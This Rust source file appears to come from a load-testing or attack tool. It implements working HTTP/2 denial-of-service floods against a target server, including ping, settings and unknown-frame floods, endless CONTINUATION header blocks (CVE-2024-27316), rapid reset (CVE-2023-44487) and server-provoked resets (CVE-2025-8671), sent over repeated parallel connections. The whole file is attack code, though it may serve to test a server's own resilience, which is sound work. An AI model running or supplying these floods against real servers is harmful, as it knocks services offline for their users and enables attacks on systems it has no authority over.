//! Sends HTTP/2 frames that request nothing but cause work for the server. Each connection sends
//! thousands of them.

use std::time::Duration;

use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use super::aim::Aim;
use super::attacker::Attacker;
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, frame,
    head_of_post, post, window_update,
};

const CONNECTIONS: usize = 8;

/// The number of frames that each connection sends, in `PIECES` chunks.
pub(super) const FRAMES: usize = 20_000;
const PIECES: usize = 20;

/// The interval at which each attacker opens a new connection.
const TURN: Duration = Duration::from_millis(250);

/// The error code CANCEL of a RST_STREAM frame, which means that the client no longer wants the
/// response.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

const MINT: &str = "/ids/snowflake";

/// Sends these frames on each connection, following the HTTP/2 preface.
fn flood(aim: &Aim, frames: impl Iterator<Item = Vec<u8>>) -> JoinSet<()> {
    let frames: Vec<_> = frames.take(FRAMES).collect();
    let pieces: Vec<_> = frames
        .chunks(FRAMES / PIECES)
        .map(|piece| piece.concat())
        .collect();
    aim.attackers(CONNECTIONS, move |aim, number| {
        let pieces = pieces.clone();
        async move {
            loop {
                let turn = async {
                    let mut attacker = Attacker::connect_http2(&aim, number, 65_535).await;
                    for piece in &pieces {
                        if !attacker.send_frames(FRAMES / PIECES, piece).await {
                            return;
                        }
                    }
                    attacker.read_frames().await;
                };
                let (_, ()) = tokio::join!(timeout(2 * TURN, turn), sleep(TURN));
            }
        }
    })
}

pub(crate) fn pings(aim: &Aim) -> JoinSet<()> {
    flood(aim, std::iter::repeat_with(|| frame(PING, 0, 0, &[7; 8])))
}

pub(crate) fn settings(aim: &Aim) -> JoinSet<()> {
    flood(aim, std::iter::repeat_with(|| frame(SETTINGS, 0, 0, &[])))
}

pub(crate) fn window_updates(aim: &Aim) -> JoinSet<()> {
    flood(aim, std::iter::repeat_with(|| window_update(0, 1)))
}

pub(crate) fn priorities(aim: &Aim) -> JoinSet<()> {
    flood(
        aim,
        std::iter::repeat_with(|| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16])),
    )
}

/// Resets the same request over and over.
pub(crate) fn resets(aim: &Aim) -> JoinSet<()> {
    flood(
        aim,
        std::iter::once(post(1, MINT))
            .chain(std::iter::repeat_with(|| frame(RST_STREAM, 0, 1, &CANCEL))),
    )
}

/// Sends frames of a type that HTTP/2 does not define.
pub(crate) fn unknown(aim: &Aim) -> JoinSet<()> {
    const TYPE: u8 = 0xbb;
    flood(aim, std::iter::repeat_with(|| frame(TYPE, 0, 0, &[])))
}

/// Sends empty DATA frames for a request that never ends.
pub(crate) fn empty_data(aim: &Aim) -> JoinSet<()> {
    let begun = frame(HEADERS, END_HEADERS, 1, &head_of_post(MINT));
    flood(
        aim,
        std::iter::once(begun).chain(std::iter::repeat_with(|| frame(DATA, 0, 1, &[]))),
    )
}

/// Sends requests, and resets each one immediately (CVE-2023-44487).
pub(crate) fn rapid_resets(aim: &Aim) -> JoinSet<()> {
    let streams = (0..).map(|stream| 2 * stream + 1);
    flood(
        aim,
        streams.flat_map(|stream| [post(stream, MINT), frame(RST_STREAM, 0, stream, &CANCEL)]),
    )
}

/// Sends a window update of zero for each request, which makes the server reset the request
/// (CVE-2025-8671).
pub(crate) fn resets_made_by_the_server(aim: &Aim) -> JoinSet<()> {
    let streams = (0..).map(|stream| 2 * stream + 1);
    flood(
        aim,
        streams.flat_map(|stream| {
            [
                post(stream, "/ids/snowflake?count=1000"),
                window_update(stream, 0),
            ]
        }),
    )
}

/// Sends a header block that never ends (CVE-2024-27316).
pub(crate) fn continuations(aim: &Aim) -> JoinSet<()> {
    let begun = frame(HEADERS, 0, 1, &head_of_post(MINT));
    let field = [&[0, 1, b'x', 100][..], &[b'y'; 100]].concat();
    flood(
        aim,
        std::iter::once(begun).chain(std::iter::repeat_with(move || {
            frame(CONTINUATION, 0, 1, &field)
        })),
    )
}
